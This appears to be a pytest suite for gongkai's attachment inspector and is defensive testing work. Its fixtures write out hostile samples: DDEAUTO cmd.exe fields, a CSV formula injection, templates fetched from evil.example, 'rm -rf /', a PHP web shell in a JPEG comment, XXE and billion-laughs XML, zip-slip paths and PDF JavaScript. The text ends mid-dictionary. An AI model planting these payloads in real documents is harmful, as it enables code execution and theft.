"""Hostile attachments: every one is told in one clear sentence, within two seconds of CPU and 300 MB, and none stops the others."""

import ast
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path

import attachments as a
import pytest
from conftest import BuiltSite, build, lay_site, said
from factories import record, settings, typed
from pypdf.generic import ArrayObject, BooleanObject, DictionaryObject, NumberObject

from gongkai import messages
from gongkai.cache import Cache
from gongkai.guard import child
from gongkai.guard.attachments import look_into
from gongkai.guard.finding import Finding
from gongkai.guard.inspection import MAX_TEXT
from gongkai.guard.inspector import Inspector
from gongkai.guard.personal import find
from gongkai.place import Place
from gongkai.preparing import prepare
from gongkai.read.files import file_facts

REVIEW = "由专人看过后写 reviewed: {by: 姓名, reason: 原因, date: 2024-03-05, sha256: {sha256}}。"
SENTENCES = {
    "active": "“{file}”里有会自己执行的内容：{detail}。请去掉后另存，或转成普通的 PDF。",
    "embedded": "“{file}”里藏着别的文件：{detail}。请取出来单独作附件，或转成图片、普通的 PDF。",
    "external": "“{file}”打开时会到外面取内容：{detail}。请断开链接，把内容存进文件。",
    "bomb": "“{file}”展开后过大：{detail}。请重新制作。",
    "member": "压缩包“{file}”里的文件不能发布：{detail}。请改正后重新压缩，或把文件分别作附件。",
    "disguised": "“{file}”的内容与它的样子不符：{detail}。请用办公软件重新另存。",
    "personal": "“{file}”里有个人信息：{detail}。请删去后另存。",
    "unread": f"“{{file}}”的内容没有能够检查：{{detail}}。请换成能检查的文件；确需发布的，{REVIEW}",
    "leftover": f"“{{file}}”里有读者不该看到的东西：{{detail}}。请清除后另存；有意保留的，{REVIEW}",
    "no-text": f"“{{file}}”是扫描件，{{detail}}。读者不能搜索和听读，个人信息也查不出来。请换成有文字的 PDF；没有的，{REVIEW}",
    "formula": f"“{{file}}”里有会被表格软件当作公式的内容：{{detail}}。请在前面加一个半角撇号；确是数据的，{REVIEW}",
    "dark": f"“{{file}}”里有暗链或广告：{{detail}}。请删去后另存；确是正文所需的，{REVIEW}",
    "not-allowed": "附件“{file}”的类型不能发布，或文件名的后缀与内容不符。可用 PDF、DOC(X)、XLS(X)、PPT(X)、WPS、OFD、"
    "CSV、TXT、PNG、JPG、GIF、WEBP、ET、ODT、ODS、ZIP。",
}
MADE = a.docx()
FORM = DictionaryObject({a.name("/NeedAppearances"): BooleanObject(True)})
VP8 = b"\x30\x01\x00\x9d\x01\x2a\x04\x00\x04\x00"
"""The head of a picture of 4 × 4."""
PLAIN_ZIP = a.zipped({"a.txt": "文字"})
Told = tuple[str, str]


@dataclass(frozen=True)
class Case:
    """A file, and what an editor is told of it."""

    file: str
    make: Callable[[], bytes]
    told: tuple[Told, ...]


def case(file: str, make: Callable[[], bytes], *told: Told) -> Case:
    return Case(file, make, told)


def rel(kind: str, target: str, mode: str = "External") -> Callable[[], bytes]:
    return lambda: a.docx(**a.relation(kind, target, mode))


def wordy(body: str) -> Callable[[], bytes]:
    return lambda: a.docx(body)


DTD = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{0}]><x>&j;</x>'
LAUGHS = DTD.format("".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)))
JS = a.name("/JavaScript")
MACRO_SHEET = '<Types><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
NO_FILE = ("not-allowed", "")
CASES = {
    # types that are not on the list, and names that belie the content
    "html": case("a.html", lambda: b"<script>alert(1)</script>", NO_FILE),
    "svg": case("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', NO_FILE),
    "script": case("a.js", lambda: b"alert(1)", NO_FILE),
    "style": case("a.css", lambda: b"*{}", NO_FILE),
    "svg-as-png": case("a.png", lambda: b"<svg onload=alert(1)>", NO_FILE),
    "html-as-txt": case("a.txt", lambda: b"\xef\xbb\xbf  <!DOCTYPE html><script>alert(1)</script>", NO_FILE),
    "html-as-csv": case("a.csv", lambda: b"<html>", NO_FILE),
    "program-as-txt": case("a.txt", lambda: b"#!/bin/sh\nrm -rf /", NO_FILE),
    "rtf-as-txt": case("a.txt", lambda: b"{\\rtf1 }", NO_FILE),
    "docm": case("a.docm", lambda: MADE, NO_FILE),
    "nothing-as-pdf": case("a.pdf", lambda: b"", NO_FILE),
    "nothing-as-docx": case("a.docx", lambda: b"", NO_FILE),
    "pdf-as-docx": case("a.docx", a.pdf, NO_FILE),
    "xlsx-as-docx": case("a.docx", a.xlsx, ("disguised", "不是真正的 DOCX")),
    "zip-as-docx": case("a.docx", lambda: PLAIN_ZIP, ("unread", "文件损坏，或不合格式")),
    "zip-as-odt": case("a.odt", lambda: PLAIN_ZIP, ("unread", "文件损坏，或不合格式")),
    "zip-as-ofd": case("a.ofd", lambda: PLAIN_ZIP, ("unread", "文件损坏，或不合格式")),
    # Office Open XML
    "macros": case("a.docx", lambda: a.docx(**{"word/vbaProject.bin": b"x"}), ("active", "宏（word/vbaProject.bin）")),
    "macros-elsewhere": case("a.xlsx", lambda: a.xlsx(**{"xl/odd/VBAPROJECT.BIN": b"x"}), ("active", "宏（xl/odd/VBAPROJECT.BIN）")),
    "docm-named-docx": case(
        "a.docx", lambda: a.docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), ("active", "宏（/main.xml）")
    ),
    "old-macros": case("a.xlsx", lambda: a.xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"}), ("active", "宏（xl/macrosheets/sheet1.xml）")),
    "activex": case(
        "a.docx", lambda: a.docx(**{"word/activeX/activeX1.xml": "<x/>"}), ("active", "控件或 OLE 对象（word/activeX/activeX1.xml）")
    ),
    "ole-object": case(
        "a.docx",
        lambda: a.docx(**{"word/embeddings/oleObject1.bin": b"x"}),
        ("active", "控件或 OLE 对象（word/embeddings/oleObject1.bin）"),
    ),
    "workbook-within": case(
        "a.docx", lambda: a.docx(**{"word/embeddings/Sheet1.xlsx": a.xlsx()}), ("embedded", "word/embeddings/Sheet1.xlsx")
    ),
    "zip-within-under-another-name": case(
        "a.docx", lambda: a.docx(**{"word/media/image1.png": PLAIN_ZIP}), ("embedded", "word/media/image1.png")
    ),
    "program-within": case("a.pptx", lambda: a.pptx(**{"ppt/media/a.exe": b"MZ"}), ("embedded", "ppt/media/a.exe")),
    "html-within": case("a.docx", rel("aFChunk", "afchunk.mht", "Internal"), ("embedded", "afchunk.mht")),
    "template-from-outside": case(
        "a.docx", rel("attachedTemplate", "https://evil.example/a.dotm"), ("external", "https://evil.example/a.dotm")
    ),
    "picture-from-outside": case("a.docx", rel("image", "https://evil.example/a.png"), ("external", "https://evil.example/a.png")),
    "link-to-a-share": case("a.docx", rel("hyperlink", "\\\\evil.example\\share"), ("external", "\\\\evil.example\\share")),
    "link-to-a-disk": case("a.docx", rel("hyperlink", "file:///C:/a.doc"), ("external", "file:///C:/a.doc")),
    "dde-field": case(
        "a.docx",
        wordy("<w:p><w:fldSimple w:instr=' DDEAUTO c:\\cmd.exe \"/c calc\"'/></w:p>"),
        ("active", '启动程序的域或公式（DDEAUTO c:\\cmd.exe "/c calc"）'),
    ),
    "dde-field-in-runs": case(
        "a.docx",
        wordy("<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>"),
        ("active", "启动程序的域或公式（DDEAUTO cmd）"),
    ),
    "picture-field": case(
        "a.docx",
        wordy('<w:r><w:instrText>INCLUDEPICTURE "http://x/a.png"</w:instrText></w:r>'),
        ("external", '取外部内容的域或公式（INCLUDEPICTURE "http://x/a.png"）'),
    ),
    "dde-formula": case(
        "a.xlsx", lambda: a.xlsx("<row><c><f>cmd|'/c calc'!A1</f></c></row>"), ("active", "启动程序的域或公式（cmd|'/c calc'!A1）")
    ),
    "web-formula": case(
        "a.xlsx",
        lambda: a.xlsx('<row><c><f>WEBSERVICE("http://x")</f></c></row>'),
        ("external", '取外部内容的域或公式（WEBSERVICE("http://x")）'),
    ),
    "workbook-outside": case(
        "a.xlsx",
        lambda: a.xlsx(**{"xl/externalLinks/externalLink1.xml": "<x/>"}),
        ("external", "外部数据（xl/externalLinks/externalLink1.xml）"),
    ),
    "connection": case("a.xlsx", lambda: a.xlsx(**{"xl/connections.xml": "<x/>"}), ("external", "外部数据（xl/connections.xml）")),
    "billion-laughs": case("a.docx", lambda: a.docx(**{"word/styles.xml": LAUGHS}), ("active", "XML 文件类型声明（word/styles.xml）")),
    "entity-from-a-file": case(
        "a.xlsx", lambda: a.xlsx(**{"xl/a.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}), ("active", "XML 文件类型声明（xl/a.xml）")
    ),
    "comments": case(
        "a.docx",
        lambda: a.docx(**{"word/comments.xml": f"<w:comments {a.W}><w:comment/></w:comments>"}),
        ("leftover", "批注（word/comments.xml）"),
    ),
    "tracked-changes": case(
        "a.docx", wordy("<w:p><w:del><w:r><w:delText>底价</w:delText></w:r></w:del></w:p>"), ("leftover", "修订痕迹（word/document.xml）")
    ),
    "hidden-text": case(
        "a.docx", wordy("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>内部意见</w:t></w:r></w:p>"), ("leftover", "隐藏文字“内部意见”")
    ),
    "edge-of-a-form": case("a.docx", wordy("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>窗体顶端</w:t></w:r></w:p>")),
    "hidden-sheet": case("a.xlsx", lambda: a.xlsx(sheets='<sheet name="底稿" state="veryHidden"/>'), ("leftover", "隐藏的工作表“底稿”")),
    "hidden-rows": case("a.xlsx", lambda: a.xlsx('<row hidden="1"/>'), ("leftover", "隐藏的行或列（xl/worksheets/sheet1.xml）")),
    "hidden-slide": case("a.pptx", lambda: a.pptx('<p:sld show="0"/>'), ("leftover", "隐藏的幻灯片（ppt/slides/slide1.xml）")),
    "macros-by-relationship": case(
        "a.docx", lambda: a.docx(**a.relation("vbaProject", "odd.xyz", "Internal")), ("active", "宏（word/odd.xyz）")
    ),
    "object-by-relationship": case(
        "a.docx", lambda: a.docx(**a.relation("oleObject", "../odd.xyz", "Internal")), ("active", "控件或 OLE 对象（odd.xyz）")
    ),
    "file-by-relationship": case("a.docx", rel("package", "odd.xyz", "Internal"), ("embedded", "word/odd.xyz")),
    "old-macros-by-type": case(
        "a.xlsx",
        lambda: a.xlsx(**{"[Content_Types].xml": a.types("xlsx").replace("<Types>", MACRO_SHEET)}),
        ("active", "宏（xl/worksheets/sheet1.xml）"),
    ),
    "call-in-a-name": case(
        "a.xlsx",
        lambda: a.xlsx(**{"xl/b.xml": '<w><definedName>EXEC("calc")</definedName></w>'}),
        ("active", '启动程序的域或公式（EXEC("calc")）'),
    ),
    "call-in-a-formula": case(
        "a.xlsx", lambda: a.xlsx('<row><c><f>RTD("x.y",,"a")</f></c></row>'), ("active", '启动程序的域或公式（RTD("x.y",,"a")）')
    ),
    "picture-formula": case(
        "a.xlsx",
        lambda: a.xlsx('<row><c><f>_xlfn.IMAGE("http://x/a.png")</f></c></row>'),
        ("external", '取外部内容的域或公式（_xlfn.IMAGE("http://x/a.png")）'),
    ),
    "link-that-runs": case("a.docx", rel("hyperlink", "javascript:alert(1)"), ("external", "javascript:alert(1)")),
    "link-that-starts-a-program": case("a.docx", rel("hyperlink", "search-ms:query=x"), ("external", "search-ms:query=x")),
    "link-to-a-casino": case("a.docx", rel("hyperlink", "http://bet365.example/"), ("dark", "链接“http://bet365.example/”")),
    "link-to-a-casino-in-a-field": case(
        "a.docx",
        wordy('<w:r><w:instrText>HYPERLINK "http://bet365.example/"</w:instrText></w:r>'),
        ("dark", "链接“http://bet365.example/”"),
    ),
    "link-to-a-casino-in-a-formula": case(
        "a.xlsx",
        lambda: a.xlsx('<row><c><f>HYPERLINK("http://bet365.example/","甲")</f></c></row>'),
        ("dark", "链接“http://bet365.example/”"),
    ),
    "advertisement": case("a.txt", lambda: "通知。\n新葡京官网\n".encode(), ("dark", "广告“新葡京官网”")),
    "deep-xml": case("a.docx", wordy("<w:p>" * 5000 + "</w:p>" * 5000), ("unread", "word/document.xml 嵌套太深")),
    "broken-xml": case("a.docx", wordy("<w:p>"), ("unread", "文件损坏，或不合格式")),
    "much-xml": case("a.xlsx", lambda: a.xlsx(a.noise(17 * a.MEGABYTE).hex()), ("unread", "展开后的内容超过 32 MB")),
    "many-cells": case("a.xlsx", lambda: a.xlsx("".join(f"<c r='{n}'/>" for n in range(600_000))), ("unread", "超过 50 万项")),
    "long-text": case(
        "a.docx",
        lambda: a.docx(f"<w:t>{''.join(chr(0x4E00 + n) for n in a.noise(1_050_000))}</w:t>"),
        ("unread", "文字超过 100 万字，后面的没有检查"),
    ),
    "password-on-docx": case("a.docx", lambda: a.ole("EncryptedPackage"), ("unread", "加了密码")),
    "photograph-in-a-document": case(
        "a.docx",
        lambda: a.docx(**{"word/media/image1.jpeg": a.jpeg((0xE1, b"Exif\0\0" + a.exif(gps=True)))}),
        ("personal", "拍摄地点（经纬度）"),
    ),
    "odt-macros": case("a.odt", lambda: a.odt(**{"Basic/Standard/Module1.xml": "<x/>"}), ("active", "宏（Basic/Standard/Module1.xml）")),
    "odt-event": case("a.odt", lambda: a.odt("<script:event-listener/>"), ("active", "宏（content.xml）")),
    "odt-picture-outside": case("a.odt", lambda: a.odt('<draw:image xlink:href="http://x/a.png"/>'), ("external", "http://x/a.png")),
    "odt-tracked": case("a.odt", lambda: a.odt("<text:tracked-changes/>"), ("leftover", "修订痕迹（content.xml）")),
    "ofd-attachment": case("a.ofd", lambda: a.ofd(**{"Doc_0/Attachs/a.xml": "<x/>"}), ("embedded", "Doc_0/Attachs/a.xml")),
    # containers
    "bomb": case("a.zip", lambda: a.zipped({"a.txt": b"\0" * 20 * a.MEGABYTE}), ("bomb", "a.txt 的压缩比超过 100 倍")),
    "bomb-in-docx": case(
        "a.docx", lambda: a.docx(**{"word/media/a.bmp": b"\0" * 20 * a.MEGABYTE}), ("bomb", "word/media/a.bmp 的压缩比超过 100 倍")
    ),
    "bomb-that-lies": case(
        "a.docx", lambda: a.lying(a.docx(**{"word/a.bmp": b"\0" * 20 * a.MEGABYTE}), 10), ("bomb", "word/a.bmp 的压缩比超过 100 倍")
    ),
    "size-that-lies": case(
        "a.docx", lambda: a.lying(a.docx(**{"word/a.bmp": a.noise(3000)}), 10), ("disguised", "word/a.bmp 的真实大小与记载不符")
    ),
    "overlapping-members": case("a.zip", a.overlapping, ("bomb", "00001 与别的成员重叠")),
    "too-many-members": case("a.zip", lambda: a.many_members(2001), ("bomb", "超过 2000 个成员")),
    "zip-in-zip": case("a.zip", lambda: a.zipped({"甲.zip": PLAIN_ZIP}), ("member", "“甲.zip”又是压缩包")),
    "climbing-name": case("a.zip", lambda: a.zipped({"../a.txt": "x"}), ("member", "路径“../a.txt”会指到文件夹外面，或有不能用的字符")),
    "climbing-name-in-docx": case(
        "a.docx", lambda: a.docx(**{"word/../../a.xml": "<x/>"}), ("member", "路径“word/../../a.xml”会指到文件夹外面，或有不能用的字符")
    ),
    "absolute-name": case("a.zip", lambda: a.zipped({"/etc/a.txt": "x"}), ("member", "路径“/etc/a.txt”会指到文件夹外面，或有不能用的字符")),
    "disk-name": case("a.zip", lambda: a.zipped({"C:/a.txt": "x"}), ("member", "路径“C:/a.txt”会指到文件夹外面，或有不能用的字符")),
    "backslash-name": case("a.zip", lambda: a.zipped({"..\\a.txt": "x"}), ("member", "路径“..\\a.txt”会指到文件夹外面，或有不能用的字符")),
    "name-that-turns": case(
        "a.zip", lambda: a.zipped({"a\u202etxt.exe": "x"}), ("member", "路径“a\ufffdtxt.exe”会指到文件夹外面，或有不能用的字符")
    ),
    "same-name-twice": case("a.zip", lambda: a.zipped({"a.txt": "x", "A.TXT": "y"}), ("member", "“A.TXT”出现了两次")),
    "two-names": case("a.zip", lambda: a.renamed(PLAIN_ZIP, "a.txt", "b.txt", count=1), ("disguised", "a.txt 有两个名字")),
    "link-in-zip": case("a.zip", a.linked_member, ("member", "“a.txt”是链接或特殊文件")),
    "names-in-gbk": case("a.zip", a.gbk_names, ("member", "文件名“╣½┐¬.txt”不是 UTF-8，请用新版压缩软件")),
    "html-in-zip": case("a.zip", lambda: a.zipped({"a.html": "<p>"}), ("member", "“a.html”的类型不能发布，或后缀与内容不符")),
    "macros-in-zip": case(
        "a.zip", lambda: a.zipped({"甲.docx": a.docx(**{"word/vbaProject.bin": b"x"})}), ("active", "宏（甲.docx › word/vbaProject.bin）")
    ),
    "script-in-pdf-in-zip": case(
        "a.zip", lambda: a.zipped({"甲.pdf": a.pdf(change=a.at_start(S=JS, JS=a.words("x")))}), ("active", "JavaScript 脚本")
    ),
    "password-on-zip": case("a.zip", lambda: a.with_password(PLAIN_ZIP), ("unread", "加了密码")),
    "bzip2": case("a.zip", lambda: a.zipped({"a.txt": "x"}, method=zipfile.ZIP_BZIP2), ("unread", "用了少见的压缩方式（a.txt）")),
    "cut-off": case("a.docx", lambda: MADE[:-40], ("unread", "文件损坏，或不合格式")),
    "beginning-alone": case("a.docx", lambda: b"PK\x03\x04", ("unread", "文件损坏，或不合格式")),
    "folder-with-content": case("a.zip", lambda: a.zipped({"a.html/": "<script>"}), ("disguised", "a.html/ 的真实大小与记载不符")),
    "bits-flipped": case("a.docx", lambda: MADE[:300] + b"\xff\xff\xff" + MADE[303:], ("unread", "文件损坏，或不合格式")),
    "behind-the-end": case("a.docx", lambda: MADE + b"<script>alert(1)</script>", ("disguised", "结尾之后还有内容")),
    "between-directory-and-end": case(
        "a.zip", lambda: PLAIN_ZIP.replace(b"PK\x05\x06", b"<script>PK\x05\x06"), ("disguised", "开头之前或目录之后还有内容")
    ),
    # old containers
    "doc-macros": case(
        "a.doc",
        lambda: a.ole("Macros", "VBA", "_VBA_PROJECT"),
        ("active", "宏（VBA）"),
        ("unread", "DOC 是旧格式，请另存为 DOCX、XLSX、PPTX 或 PDF"),
    ),
    "xls-object": case(
        "a.xls",
        lambda: a.ole("\x01Ole10Native"),
        ("active", "控件或 OLE 对象（OLE）"),
        ("unread", "XLS 是旧格式，请另存为 DOCX、XLSX、PPTX 或 PDF"),
    ),
    "wps": case("a.wps", lambda: a.ole("WordDocument"), ("unread", "WPS 是旧格式，请另存为 DOCX、XLSX、PPTX 或 PDF")),
    "doc-cut-off": case("a.doc", lambda: b"\xd0\xcf\x11\xe0", ("unread", "DOC 是旧格式，请另存为 DOCX、XLSX、PPTX 或 PDF")),
    # PDF
    "script-at-start": case("a.pdf", lambda: a.pdf(change=a.at_start(S=JS, JS=a.words("app.alert(1)"))), ("active", "JavaScript 脚本")),
    "launch": case("a.pdf", lambda: a.pdf(change=a.at_start(S=a.name("/Launch"), F=a.words("cmd.exe"))), ("active", "启动程序的动作")),
    "submit": case("a.pdf", lambda: a.pdf(change=a.at_start(S=a.name("/SubmitForm"))), ("active", "把表单发往别处的动作")),
    "import": case("a.pdf", lambda: a.pdf(change=a.at_start(S=a.name("/ImportData"))), ("active", "把表单发往别处的动作")),
    "script-on-a-link": case(
        "a.pdf",
        lambda: a.pdf(change=a.annotated(Subtype=a.name("/Link"), A=DictionaryObject({a.name("/S"): JS, a.name("/JS"): a.words("x")}))),
        ("active", "JavaScript 脚本"),
    ),
    "rich-media": case("a.pdf", lambda: a.pdf(change=a.annotated(Subtype=a.name("/RichMedia"))), ("active", "音像或三维内容")),
    "xfa": case(
        "a.pdf", lambda: a.pdf(change=a.in_root("/AcroForm", DictionaryObject({a.name("/XFA"): ArrayObject()}))), ("active", "XFA 动态表单")
    ),
    "file-in-pdf": case("a.pdf", lambda: a.pdf(change=lambda writer: writer.add_attachment("a.exe", b"MZ")), ("embedded", "PDF 附件")),
    "other-file": case(
        "a.pdf", lambda: a.pdf(change=a.at_start(S=a.name("/GoToR"), F=a.words("b.pdf"))), ("external", "指向别的文件的动作")
    ),
    "script-packed-away": case("a.pdf", lambda: a.packed_objects(b"9 0 <</S/JavaScript/JS(x)>>"), ("active", "JavaScript 脚本")),
    "script-packed-in-an-odd-way": case(
        "a.pdf",
        lambda: a.packed_objects(b"9 0 <<>>", b"/ASCIIHexDecode").replace(b"stream\nx", b"stream\n4"),
        ("unread", "有一段对象解不开"),
        ("unread", "文件损坏，或不合格式"),
    ),
    "script-in-escapes": case(
        "a.pdf",
        lambda: a.objects(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript>>>>", b"<</Type/Pages/Kids[]/Count 0>>"),
        ("active", "JavaScript 脚本"),
        ("disguised", "改写了的关键字 /JavaScript"),
    ),
    "script-in-a-stream-without-type": case(
        "a.pdf",
        lambda: a.packed_objects(b"9 0 <</S/JavaScript/JS(x)>>").replace(b"/Type/ObjStm", b""),
        ("active", "JavaScript 脚本"),
    ),
    "file-on-a-page": case("a.pdf", lambda: a.pdf(change=a.annotated(Subtype=a.name("/FileAttachment"))), ("embedded", "PDF 附件")),
    "file-without-type": case(
        "a.pdf", lambda: a.pdf(change=a.in_root("/A", DictionaryObject({a.name("/EF"): DictionaryObject()}))), ("embedded", "PDF 附件")
    ),
    "film": case("a.pdf", lambda: a.pdf(change=a.annotated(Subtype=a.name("/Movie"))), ("active", "音像或三维内容")),
    "body-in-space": case("a.pdf", lambda: a.pdf(change=a.annotated(Subtype=a.name("/3D"))), ("active", "音像或三维内容")),
    "address-called-at-start": case(
        "a.pdf",
        lambda: a.pdf(change=a.at_start(S=a.name("/URI"), URI=a.words("http://x.example/"))),
        ("active", "打开时自动访问网址（http://x.example/）"),
    ),
    "data-from-the-net": case(
        "a.pdf", lambda: a.pdf(change=a.in_root("/A", DictionaryObject({a.name("/FS"): a.name("/URL")}))), ("external", "外部数据（URL）")
    ),
    "pdf-link-that-runs": case(
        "a.pdf",
        lambda: a.pdf(change=a.annotated(Subtype=a.name("/Link"), A=a.action("javascript:alert(1)"))),
        ("external", "javascript:alert(1)"),
    ),
    "archive-that-ends-as-a-pdf": case(
        "a.pdf",
        lambda: a.pdf() + a.zipped({"a.txt": "x"}, comment=b"\n%%EOF\n"),
        ("unread", "文件损坏，或不合格式"),
        ("disguised", "同时又是另一种文件"),
    ),
    "password": case("a.pdf", lambda: a.pdf(password="密"), ("unread", "加了密码")),
    "scan": case("a.pdf", lambda: a.pdf(change=a.scanned), ("no-text", "有 1 页没有文字")),
    "pdf-comments": case(
        "a.pdf", lambda: a.pdf(change=a.annotated(Subtype=a.name("/Text"), Contents=a.words("内部"))), ("leftover", "批注（PDF）")
    ),
    "head-alone": case("a.pdf", lambda: b"%PDF-1.7\n", ("unread", "文件损坏，或不合格式")),
    "pdf-cut-off": case("a.pdf", lambda: a.pdf()[:300], ("unread", "文件损坏，或不合格式")),
    "pdf-of-noise": case("a.pdf", lambda: b"%PDF-1.7\n" + a.noise(200_000), ("unread", "文件损坏，或不合格式")),
    "pages-in-a-circle": case("a.pdf", a.looping_pages, ("unread", "文件损坏，或不合格式")),
    "pdf-bomb": case("a.pdf", lambda: a.pdf_bomb(200), ("unread", "文件损坏，或不合格式")),
    "slow-pdf": case("a.pdf", a.slow_pdf, ("unread", "太复杂，检查超时")),
    "long-page": case("a.pdf", a.long_page, ("unread", "只检查了前 0 页")),
    "many-pages": case("a.pdf", lambda: a.pdf(pages=101), ("unread", "只检查了前 100 页")),
    "html-behind-pdf": case("a.pdf", lambda: a.pdf() + b"<html><script>alert(1)</script>", ("disguised", "PDF 结尾之后有网页或压缩包")),
    "zip-behind-pdf": case("a.pdf", lambda: a.pdf() + PLAIN_ZIP, ("disguised", "PDF 结尾之后有网页或压缩包")),
    # pictures
    "zip-behind-png": case("a.png", lambda: a.png() + PLAIN_ZIP, ("disguised", "图片后面接着别的内容")),
    "html-behind-jpeg": case("a.jpg", lambda: a.jpeg() + b"\n<script>alert(1)</script>", ("disguised", "图片后面接着别的内容")),
    "html-behind-gif": case("a.gif", lambda: a.gif() + b"<html>", ("disguised", "图片后面接着别的内容")),
    "pdf-behind-webp": case("a.webp", lambda: a.webp((b"VP8 ", VP8)) + a.pdf(), ("disguised", "图片后面接着别的内容")),
    "video-behind-jpeg": case("a.jpg", lambda: a.jpeg() + b"\0\0\0\x18ftypmp42" * 9, ("leftover", "图片后面接着别的内容")),
    "code-in-jpeg": case("a.jpg", lambda: a.jpeg((0xFE, b"<?php system($_GET[0]);?>")), ("disguised", "图片的说明里有程序代码")),
    "code-in-packed-png": case(
        "a.png",
        lambda: a.png(4, 4, a.chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"<script>alert(1)</script>"))),
        ("disguised", "图片的说明里有程序代码"),
    ),
    "code-in-gif": case("a.gif", lambda: a.gif(b"<script>alert(1)</script>"), ("disguised", "图片的说明里有程序代码")),
    "place-in-jpeg": case("a.jpg", lambda: a.jpeg((0xE1, b"Exif\0\0" + a.exif(gps=True))), ("personal", "拍摄地点（经纬度）")),
    "place-in-png": case("a.png", lambda: a.png(4, 4, a.chunk(b"eXIf", a.exif(gps=True))), ("personal", "拍摄地点（经纬度）")),
    "place-in-webp": case("a.webp", lambda: a.webp((b"EXIF", a.exif(gps=True))), ("personal", "拍摄地点（经纬度）")),
    "place-in-xmp": case(
        "a.jpg", lambda: a.jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\0<x GPSLatitude='1'/>")), ("personal", "拍摄地点（经纬度）")
    ),
    "archive-within-a-png": case("a.png", a.archive_in_png, ("disguised", "同时又是另一种文件")),
    "pdf-within-a-jpeg": case("a.jpg", lambda: a.jpeg((0xFE, a.pdf()[:500])), ("disguised", "同时又是另一种文件")),
    "code-in-an-odd-block": case(
        "a.png", lambda: a.png(4, 4, a.chunk(b"prVt", b"<script>alert(1)</script>")), ("disguised", "图片的说明里有程序代码")
    ),
    "huge-picture": case("a.png", lambda: a.png(60_000, 60_000), ("bomb", "图片有 60000 × 60000 像素")),
    "png-cut-off": case("a.png", lambda: a.png()[:40], ("unread", "文件损坏，或不合格式")),
    "jpeg-cut-off": case("a.jpg", lambda: a.jpeg()[:30], ("unread", "文件损坏，或不合格式")),
    "gif-cut-off": case("a.gif", lambda: a.gif()[:-4], ("unread", "文件损坏，或不合格式")),
    # text
    "formula": case("a.csv", lambda: "甲,乙\n1,=cmd|'/c calc'!A1\n".encode(), ("formula", "行 2: =cmd|'/c calc'!A1")),
    "formula-in-gbk": case("a.csv", lambda: "甲,@SUM(A1)\n".encode("gbk"), ("formula", "行 1: @SUM(A1)")),
    "formula-behind-blanks": case("a.csv", lambda: "甲, =SUM(A1)\n".encode(), ("formula", "行 1:  =SUM(A1)")),
    "formula-in-full-width": case("a.csv", lambda: "甲,＝SUM(A1)\n".encode(), ("formula", "行 1: ＝SUM(A1)")),
    "formula-behind-a-semicolon": case("a.csv", lambda: "甲;=SUM(A1)\n".encode(), ("formula", "行 1: 甲;=SUM(A1)")),
    "no-encoding": case("a.txt", lambda: b"\xff\xff\xfe\x80abc", ("unread", "看不出文字的编码")),
}


@pytest.fixture(scope="module")
def inspector() -> Iterator[Inspector]:
    one = Inspector()
    yield one
    one.close()


def told(inspector: Inspector, folder: Path, file: str, raw: bytes, **review: object) -> list[str]:
    """What an editor sees of an attachment: every problem on the line that names it."""
    (folder / file).write_bytes(raw)
    front = {"attachments": [{"file": file, **review}]}
    problems = record("notices/2024/x", lambda name: file_facts(folder / name, inspector), **front).problems
    assert {(problem.path, problem.line) for problem in problems} <= {("notices/2024/x.md", 2)}
    return [problem.message for problem in problems]


def sentence(key: str, file: str, detail: str, raw: bytes = b"") -> str:
    return SENTENCES[key].replace("{file}", file).replace("{detail}", detail).replace("{sha256}", sha256(raw).hexdigest())


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_attachment_is_told_in_one_sentence(inspector: Inspector, tmp_path: Path, name: str) -> None:
    one = CASES[name]
    raw = one.make()
    assert told(inspector, tmp_path, one.file, raw) == [sentence(key, one.file, detail, raw) for key, detail in one.told]


HARMLESS = {
    "docx": ("a.docx", a.docx, "正文。"),
    "docx-with-a-link": ("a.docx", rel("hyperlink", "https://www.linlan.example/"), "正文。"),
    "docx-with-a-picture": ("a.docx", lambda: a.docx(**{"word/media/image1.png": a.png()}), "正文。"),
    "docx-with-a-picture-of-another-kind": ("a.docx", lambda: a.docx(**{"word/media/image1.jpeg": a.png()}), "正文。"),
    "xlsx": ("a.xlsx", lambda: a.xlsx("<row><c><v>1.3800138E10</v></c><c t='s'><v>7</v></c></row>"), "13800138000"),
    "xlsx-words": ("a.xlsx", lambda: a.xlsx(**{"xl/sharedStrings.xml": "<sst><si><t>进度</t></si></sst>"}), "进度"),
    "xlsx-formula": ("a.xlsx", lambda: a.xlsx("<row><c><f>SUM(A1:A9)</f><v>5</v></c></row>"), "5"),
    "xlsx-pivot": ("a.xlsx", lambda: a.xlsx(**{"xl/pivotCache/r1.xml": "<r><s v='底稿'/></r>"}), "底稿"),
    "xlsx-header": ("a.xlsx", lambda: a.xlsx(**{"xl/a.xml": "<x><oddHeader>页眉</oddHeader></x>"}), "页眉"),
    "docx-described-picture": ("a.docx", lambda: a.docx("<wp:docPr descr='图上是什么'/>"), "图上是什么"),
    "pptx": ("a.pptx", lambda: a.pptx("<p:sld><a:p><a:t>讲话</a:t></a:p></p:sld>"), "讲话"),
    "odt": ("a.odt", lambda: a.odt("<text:p>甲<text:span>乙</text:span></text:p>"), "甲乙"),
    "odt-with-empty-part": ("a.odt", lambda: a.odt(**{"Configurations2/accelerator/current.xml": ""}), "正文。"),
    "ofd": ("a.ofd", a.ofd, "版式文件的文字"),
    "pdf": ("a.pdf", a.pdf, "Plain text"),
    "pdf-of-two-pages": ("a.pdf", lambda: a.pdf(pages=2), "Plain text\nPlain text"),
